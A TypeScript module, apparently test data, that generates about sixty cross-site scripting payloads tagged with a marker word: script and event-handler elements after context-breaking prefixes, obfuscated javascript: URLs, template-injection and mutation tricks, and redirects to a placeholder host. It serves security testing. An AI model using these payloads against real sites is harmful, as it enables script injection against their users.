/**
 * Texts that an attacker hopes a page will run as code: elements, attributes, addresses and scripts, also after text that
 * closes what surrounds them.
 * @module
 */

/** A word in each text, by which checks find it. */
const MARKER = 'zq7x'

const CALL = `alert('${MARKER}')`
const OPENINGS = ['', '"', "'", '">', "'>", '-->', '</title>', '</script>', '</style>', '\\u003c/script>']
const ELEMENTS = [
  `<script>${CALL}</script>`,
  `<img src=x onerror=${CALL}>`,
  `<svg onload=${CALL}>`,
  `<a href="javascript:${CALL}">x</a>`,
]
const OTHERS = [
  ` autofocus onfocus=${CALL} x=`,
  `" onmouseover="${CALL}`,
  `' onmouseover='${CALL}`,
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  `java\tscript:${CALL}`,
  `\u0001javascript:${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  `vbscript:${MARKER}`,
  `";${CALL};//`,
  `'-${CALL}-'`,
  `\\";${CALL};//`,
  `\`\${${CALL}}\``,
  `{{constructor.constructor("${CALL}")()}}`,
  `\u2028${CALL}`,
  `<iframe srcdoc="<script>${CALL}</script>">`,
  `<${MARKER} onclick=1>`,
  `<base href=//${MARKER}.example>`,
  `<meta http-equiv=refresh content="0;url=//${MARKER}.example">`,
  `<form action=//${MARKER}.example><button>`,
  `<style>@import'//${MARKER}.example'</style>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${CALL}>`,
  `&lt;script&gt;${CALL}&lt;/script&gt;`,
]

/** About sixty texts. */
export const scripts = (): { payload: string }[] =>
  [...OPENINGS.flatMap((opening) => ELEMENTS.map((element) => opening + element)), ...OTHERS].map(
    (payload) => ({
      payload,
    }),
  )
